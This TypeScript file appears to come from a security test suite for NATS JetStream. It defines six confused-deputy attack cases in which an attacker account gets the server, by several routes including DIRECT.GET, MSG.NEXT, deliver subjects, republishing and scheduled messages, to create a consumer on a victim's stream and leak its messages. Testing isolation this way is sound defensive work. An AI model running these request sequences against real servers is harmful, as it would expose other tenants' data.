import type { Scene } from "../scene.ts";
import { api, type Attack } from "./attack.ts";
import { pushTo } from "./delivery.ts";
import { sendByServer } from "./deputy.ts";
import { withSettings } from "./streams.ts";

type Way = (scene: Scene, to: string, request: string) => Promise<unknown>;

/** Has the server ask, in the attacker's stead, for a consumer on the victim's stream. */
function deputy(id: string, by: string, way: Way): Attack {
  return {
    id,
    title: `have the server create a consumer on the victim's stream: ${by}`,
    async run(scene) {
      const { raider, victim } = scene;
      const deliver = raider.inbox();
      const { stream } = victim.store;
      const request = JSON.stringify({ stream_name: stream, config: pushTo(scene, deliver) });
      const to = api(`CONSUMER.CREATE.${stream}`);
      return scene.secretIn(await raider.hear(deliver, async () => way(scene, to, request)));
    },
  };
}

/** Creates a consumer on the attacker's own message. */
async function ownConsumer(
  { raider, own }: Scene,
  config: Readonly<Record<string, unknown>>,
): Promise<void> {
  const { stream } = own.store;
  await raider.ask(api(`CONSUMER.CREATE.${stream}.${String(config["name"])}`), {
    stream_name: stream,
    config: {
      ack_policy: "none",
      mem_storage: true,
      inactive_threshold: 5_000_000_000,
      filter_subjects: [String(config["filter_subject"])],
      ...config,
      filter_subject: undefined,
    },
  });
}

/** Reading through what the server does in an agent's name. */
export const deputyReading: readonly Attack[] = [
  deputy("R33a", "DIRECT.GET by subject", async (scene, to, body) =>
    sendByServer(scene, { id: "r33a", to, body }),
  ),
  deputy("R33b", "DIRECT.GET by sequence", async (scene, to, body) => {
    const { sequence } = await scene.own.put("r33b", body);
    const request = api(`DIRECT.GET.${scene.own.store.stream}`);
    await scene.raider.send(request, { seq: sequence }, { reply: to });
  }),
  deputy("R33c", "MSG.NEXT of an own consumer", async (scene, to, body) => {
    const { subject } = await scene.own.put("r33c", body);
    await ownConsumer(scene, { name: "r33c", filter_subject: subject });
    const next = api(`CONSUMER.MSG.NEXT.${scene.own.store.stream}.r33c`);
    await scene.raider.send(next, { batch: 1 }, { reply: to });
  }),
  deputy("R33d", "deliver subject of an own consumer", async (scene, to, body) => {
    const { subject } = await scene.own.put("r33d", body);
    await ownConsumer(scene, { name: "r33d", filter_subject: subject, deliver_subject: to });
  }),
  deputy("R33e", "republishing of the own stream", async (scene, to, body) => {
    const republish = { src: scene.own.subject("r33e"), dest: to };
    await withSettings(scene, { of: "own", settings: { republish } }, async () => {
      await scene.own.put("r33e", body);
      return undefined;
    });
  }),
  deputy("R33f", "a scheduled message (2.12)", async (scene, to, body) => {
    const at = new Date(Date.now() + 50).toISOString();
    await scene.raider.ask(scene.own.subject("r33f"), body, {
      headers: { "Nats-Schedule": `@at ${at}`, "Nats-Schedule-Target": to },
    });
  }),
];
